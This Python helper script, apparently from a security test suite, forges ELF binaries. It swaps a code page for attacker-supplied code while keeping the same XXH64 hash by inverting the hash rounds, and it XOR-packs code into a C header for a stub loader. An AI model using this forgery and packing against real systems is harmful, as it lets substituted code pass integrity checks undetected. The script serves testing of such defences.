#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0-only
"""forge.py - files that the attack suite's compiler does not make

	forge.py forge GOOD EVIL OUT	GOOD with its second page of code replaced by EVIL's,
					of the same XXH64
	forge.py pack CODE OUT		a C header with CODE packed, for stub.c
"""
import struct
import sys

PAGE = 4096
M = (1 << 64) - 1
P1, P2, P3, P4, P5 = (0x9E3779B185EBCA87, 0xC2B2AE3D27D4EB4F, 0x165667B19E3779F9,
                      0x85EBCA77C2B2AE63, 0x27D4EB2F165667C5)


def rotl(x, n):
    return (x << n | x >> (64 - n)) & M


def lanes(data):
    """The four accumulators of XXH64 (seed 0) after whole stripes of 32 bytes."""
    v = [(P1 + P2) & M, P2, 0, -P1 & M]
    for i, word in enumerate(struct.unpack(f"<{len(data) // 8}Q", data)):
        v[i % 4] = rotl((v[i % 4] + word * P2) & M, 31) * P1 & M
    return v


def forge(page, target):
    """@page with its last 32 bytes such that its XXH64 is that of @target.

    The rest of XXH64 depends on the accumulators and the length alone, and a round can
    be undone: what word leads from this accumulator to that one?
    """
    begin = page[:-32]
    words = []
    for have, want in zip(lanes(begin), lanes(target)):
        before = rotl(want * pow(P1, -1, M + 1) & M, 64 - 31)
        words.append((before - have) * pow(P2, -1, M + 1) & M)
    out = begin + struct.pack("<4Q", *words)
    assert lanes(out) == lanes(target) and out != target
    return out


def text(elf):
    """File offset of the executable segment."""
    phoff, = struct.unpack_from("<Q", elf, 32)
    size, count = struct.unpack_from("<HH", elf, 54)
    for i in range(count):
        kind, flags, offset = struct.unpack_from("<IIQ", elf, phoff + i * size)
        if kind == 1 and flags & 1:
            return offset
    sys.exit("forge.py: no code")


def read(name):
    with open(name, "rb") as f:
        return f.read()


def main():
    how, *names, out = sys.argv[1:]
    if how == "forge":
        good, evil = (read(n) for n in names)
        at = text(good) + PAGE
        page = bytearray(evil[text(evil) + PAGE:][:PAGE])
        page[0x800:0x806] = b"forged"
        data = good[:at] + forge(bytes(page), good[at:at + PAGE]) + good[at + PAGE:]
        with open(out, "wb") as f:
            f.write(data)
        return
    code = bytearray(read(names[0]))
    for at in (0x800, PAGE + 0x800):
        code[at:at + 6] = b"packed"
    packed = []
    while code:
        n = 1
        while n < min(len(code), 255) and code[n] == code[0]:
            n += 1
        packed += [n ^ 0x5A, code[0] ^ 0x5A]
        del code[:n]
    with open(out, "w") as f:
        f.write("static const unsigned char packed[] = {" + ",".join(map(str, packed)) + "};\n")


main()
